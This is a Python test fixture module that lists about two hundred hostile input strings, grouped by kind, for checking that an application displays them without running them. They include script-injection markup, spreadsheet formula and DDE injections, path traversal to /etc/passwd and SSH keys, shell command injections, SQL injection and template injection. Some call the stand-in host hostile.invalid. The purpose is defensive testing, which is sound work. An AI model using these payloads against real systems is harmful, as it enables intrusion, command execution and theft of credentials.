"""Two hundred strings that mean something to a browser, a spreadsheet, a database, a shell or a text engine, and must mean nothing here.

What of them would run in a browser calls ``rasdRan``, or asks something of ``hostile.invalid``, so that a test can tell.
"""

from __future__ import annotations

RAN = "rasdRan"
ELSEWHERE = "hostile.invalid"
_URL = f"http://{ELSEWHERE}"

MARKUP = (
    f"<script>{RAN}(1)</script>", f"<ScRiPt >{RAN}(2)</sCrIpT>", f"</script><script>{RAN}(3)</script>", f"<script src={_URL}/4.js></script>",
    f"<img src=x onerror={RAN}(5)>", f'<img src="{_URL}/6.png">', f"<img/src='{_URL}/7'/onload={RAN}(7)>", f"<img srcset='{_URL}/8.png 1x'>",
    f"<svg onload={RAN}(9)>", f"<svg><script>{RAN}(10)</script></svg>", f"<svg><image href='{_URL}/11.png'/></svg>", f"<svg><animate onbegin={RAN}(12) attributeName=x dur=1s>",
    f"<svg><use href='{_URL}/13.svg#a'/></svg>", f"<math><mtext><script>{RAN}(14)</script></mtext></math>", f"<iframe src=javascript:parent.{RAN}(15)></iframe>",
    f"<iframe srcdoc='<script>parent.{RAN}(16)</script>'></iframe>", f"<object data='{_URL}/17'></object>", f"<embed src='{_URL}/18'>",
    f"<link rel=stylesheet href='{_URL}/19.css'>", f"<style>@import '{_URL}/20.css';</style>", f"<style>body{{background:url({_URL}/21)}}</style>",
    f"<meta http-equiv=refresh content='0;url={_URL}/22'>", f"<base href='{_URL}/'>", f"<form action='{_URL}/24'><input name=a><button autofocus>send</button></form>",
    f"<body onload={RAN}(25)>", f"<input autofocus onfocus={RAN}(26)>", f"<details open ontoggle={RAN}(27)>", f"<video><source onerror={RAN}(28)></video>",
    f"<audio src='{_URL}/29.mp3' autoplay>", f"<marquee onstart={RAN}(30)>", f'" onmouseover="{RAN}(31)', f"' onfocus='{RAN}(32)' autofocus='", f"\"><script>{RAN}(33)</script>",
    f"'><img src=x onerror={RAN}(34)>", f"--><script>{RAN}(35)</script>", f"]]><script>{RAN}(36)</script>", f"</title><script>{RAN}(37)</script>",
    f"</textarea><script>{RAN}(38)</script>", f"</style><script>{RAN}(39)</script>", f"<a href='javascript:{RAN}(40)'>read</a>", f"<a href='{_URL}/41'>read</a>",
    f"&lt;script&gt;{RAN}(42)&lt;/script&gt;", f"&#60;script&#62;{RAN}(43)&#60;/script&#62;", f"\\u003cscript\\u003e{RAN}(44)\\u003c/script\\u003e", f"%3Cscript%3E{RAN}(45)%3C/script%3E",
    "<div style='position:fixed;inset:0;background:#000'>cover</div>", "<div dir=ltr style='width:99999px'>wide</div>", "<h1>large</h1>", "<table><tr><td>cell", "<!-- not closed",
    "<plaintext>", "<b><i><u>not closed", "</div></div></div></span>", "&nbsp;&amp;&quot;&#x0;", f"<noscript><p title=\"</noscript><img src=x onerror={RAN}(55)>\">",
    f"<template><script>{RAN}(56)</script></template>", f"<x onclick={RAN}(57) tabindex=1 id=x autofocus onfocus={RAN}(57)>", f"<button popovertarget=y onclick={RAN}(58)>go</button><div popover id=y>",
)  # fmt: skip
SCRIPT = (
    f"javascript:{RAN}(60)", f"JaVaScRiPt:{RAN}(61)", f"java\tscript:{RAN}(62)", f"data:text/html,<script>parent.{RAN}(63)</script>", f"';{RAN}(64);//", f"\";{RAN}(65);//", f"`${{{RAN}(66)}}`",
    f"\\';{RAN}(67);//", f"){{}};{RAN}(68);(", f"*/{RAN}(69)/*", "__proto__", "constructor", '{"__proto__":{"x":1}}', "[object Object]", "undefined", "null", "NaN", "true",
)  # fmt: skip
MARKDOWN = (
    f"![picture]({_URL}/80.png)", f"[link](javascript:{RAN}(81))", f"[link]({_URL}/82)", f"<{_URL}/83>", f"{_URL}/84", f"www.{ELSEWHERE}", f"![a][b]\n\n[b]: {_URL}/86.png",
    "# heading", "**bold** _lean_ ~~gone~~", "* * *", "> quoted", "```\ncode", "`code`", "| a | b |\n|---|---|\n| 1 | 2 |", "- [ ] box", "1. first", "note[^1]\n\n[^1]: foot", "    indented",
    "a\\\nb", "[](", "![](", "***", "~~~",
)  # fmt: skip
LATEX = (
    "$x^2$", "$$\\frac{1}{0}$$", f"$\\href{{javascript:{RAN}(101)}}{{x}}$", f"$\\includegraphics{{{_URL}/102.png}}$", f"$\\url{{{_URL}/103}}$", "$\\def\\a{\\a\\a}\\a$", "$\\color{red}x$", "$5 and $6",
    "\\(x\\) \\[y\\]", "\\input{/etc/passwd}",
)  # fmt: skip
DIRECTIVES = (
    ":red[red]", ":blue-background[back]", ":rainbow[colours]", ":violet-badge[badge]", ":material/delete:", ":material/home: home", ":streamlit:", ":smile:", ":small[small]", ":green[:red[both]]",
    ":red[not closed", ":shortcode:not:one:", "::::", ":gray-badge[:material/star: star]", ":orange[**bold**]", ":primary[p]", ":underline[u]",
)  # fmt: skip
BIDI = (
    "\u202eturned round", "\u202dforced\u202c", "\u202b\u202a\u202e three open", "\u2067isolated and open", "\u2066left\u2069 \u2069\u2069", "\u200f\u200e\u061cmarks", "قرية\u202e321\u202c", "\u202e<script>",
    "zero\u200bwidth\u200c\u200d\ufeff", "a\u2028line\u2029paragraph", "e\u0301" + "\u0301" * 60, "ب" + "\u064b\u0651" * 60, "\U000e0041\U000e007f tags", "ABC שלום عربي 123",
)  # fmt: skip
FORMULAS = (
    "=1+1", f'=HYPERLINK("{_URL}/140";"read")', "=cmd|' /C calc'!A0", f'=WEBSERVICE("{_URL}/142")', f'=IMPORTXML("{_URL}/143";"//a")', "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1",
    "  =1+1", "=\u200b1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "'=1+1", '"=1+1"', "=DDE(\"cmd\";\"/C calc\";\"x\")", "-2+3+cmd|' /C calc'!A0", ";=1+1", ",=1+1", "\n=1+1",
)  # fmt: skip
PATHS = (
    "../../../../etc/passwd", "..\\..\\windows\\system32", "/etc/shadow", "C:\\Windows\\win.ini", "\\\\hostile.invalid\\share", "file:///etc/passwd", "%2e%2e%2f%2e%2e%2fetc", "....//....//etc",
    "CON", "NUL.txt", "a/b\\c:d*e?f\"g<h>i|j", ".", "..", "~/.ssh/id_rsa", "$HOME/.bashrc", "`rm -rf x`", "$(touch x)", "; ls", "| cat /etc/passwd", "&& ls", "-rf", "--help",
)  # fmt: skip
SQL = (
    "'; DROP TABLE bulletin; --", "' OR '1'='1", "1; DELETE FROM record", "\" OR \"\"=\"", "' UNION SELECT name FROM sqlite_master --", "%", "_", "100%_\\", "\\", "''", "') --", "NULL", "0x31",
    '"unbalanced', "NEAR(a b", "title:word", "a AND NOT", "word*", "^first", "(((((", "{a b}: c",
)  # fmt: skip
TEMPLATES = (
    "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{0}", "{n}", "{name!r}", "{0.__class__}", "%s%s%n", "%(x)s", "{{config}}", "{% raw %}", "{", "}", "{{", "@{x}", "[[${7*7}]]",
)  # fmt: skip
CONTROLS = (
    "bell\x07", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "back\x08space", "form\x0cfeed", "tab\x0bdown", "\x01\x02\x03", "del\x7f", "next\x85line", "not\ufffe\uffffcharacters", "line\r\nline\rline", "soft\xadhyphen",
)  # fmt: skip
HUGE = ("ا" * 4000, "x" * 4000, "9" * 400, "😀" * 500, "👩‍👩‍👧‍👦" * 100, "_" * 2000, "a-" * 1500, "﷽" * 300, "\U0001f1f8\U0001f1fe" * 200, "(" * 800, "<" * 800, "&" * 800)

STRINGS: tuple[str, ...] = (*MARKUP, *SCRIPT, *MARKDOWN, *LATEX, *DIRECTIVES, *BIDI, *FORMULAS, *PATHS, *SQL, *TEMPLATES, *CONTROLS, *HUGE)
UNSTORABLE = ("a\x00b", "half \ud83d of one")
"""What no database keeps: refused with a sentence."""
